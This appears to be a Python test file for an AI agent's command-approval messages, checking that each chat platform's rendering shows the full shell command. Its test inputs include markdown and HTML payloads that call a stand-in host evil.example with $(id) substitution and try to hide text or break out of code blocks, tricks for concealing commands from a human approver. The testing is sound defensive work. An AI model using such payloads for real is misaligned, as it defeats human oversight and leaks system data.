"""A request for approval shows the whole command, whatever a platform makes of its text."""

import re
from collections.abc import Callable
from html import unescape
from typing import Final

import pytest
from lxml import html

from skerry.channels.discord.markup import DISCORD
from skerry.channels.email.markup import html_of
from skerry.channels.googlechat.markup import CHAT
from skerry.channels.imessage.markup import PLAIN_TEXT
from skerry.channels.matrix.markup import rendered as matrix
from skerry.channels.msteams.markup import rendered as teams
from skerry.channels.signal.markup import BRIDGE_MARKUP, styled
from skerry.channels.slack.markup import MRKDWN
from skerry.channels.telegram.markup import HTML
from skerry.channels.whatsapp.markup import MARKUP
from skerry.model.approval import ApprovalState
from skerry.runtime.approvals import chat_text
from skerry.store.approvals import ApprovalView, StoredApproval


def visible_text(page: str) -> str:
    """Returns the visible text of HTML."""
    return str(html.document_fromstring(page.replace("<br>", "\n")).text_content())


PLATFORMS: Final[dict[str, Callable[[str], str]]] = {
    "discord": DISCORD.render,
    "email": lambda text: visible_text(html_of(text)),
    "googlechat": CHAT.render,
    "imessage": PLAIN_TEXT.render,
    "matrix": lambda text: visible_text(matrix(text)),
    "msteams": lambda text: visible_text(teams(text)),
    "signal": lambda text: styled(text).text,
    "signal by REST": lambda text: re.sub(r"\\([^\w\s])", r"\1", BRIDGE_MARKUP.render(text)),
    "slack": lambda text: unescape(MRKDWN.render(text)),
    "telegram": lambda text: visible_text(HTML.render(text)),
    "whatsapp": MARKUP.render,
}
COMMANDS: Final = (
    'echo "[ok](http://evil.example/$(id))"',
    'echo "![ok](http://evil.example/$(id))"',
    "ls <http://evil.example> *.txt _a_ __b__ ~~c~~ ||d|| | e",
    "echo `id` # **done**",
    "[1]: http://evil.example/$(id)",
    "echo <b>$(id)</b> <!-- $(id) -->",
    "~~~ > x",
)


def request(command: str, cwd: str = "/w", reason: str = "no pattern matches") -> str:
    view = ApprovalView("exec", command, "gateway", cwd, "main", "agent:main:main", "x", reason)
    state = ApprovalState.PENDING
    return chat_text(StoredApproval("0123456789", state, "", None, view, 0, 30_000))


@pytest.mark.abuse(66)
@pytest.mark.parametrize("platform", PLATFORMS)
@pytest.mark.parametrize("command", COMMANDS)
def test_no_platform_hides_a_part_of_the_command(command: str, platform: str) -> None:
    text = PLATFORMS[platform](request(command)).replace("\u200b", "")
    assert command.replace("`", r"\u{60}") in text


@pytest.mark.abuse(66)
@pytest.mark.parametrize("platform", PLATFORMS)
def test_a_command_does_not_end_the_code_that_it_is_shown_in(platform: str) -> None:
    text = PLATFORMS[platform](request("``` [ok](http://evil.example/$(id)) ```", "/w/`[a](b)`"))
    for fragment in (r"u{60} [ok](http://evil.example/$(id)) \u{60}", r"/w/\u{60}[a](b)\u{60}"):
        assert fragment.replace("\\", "") in text.replace("\\", "")
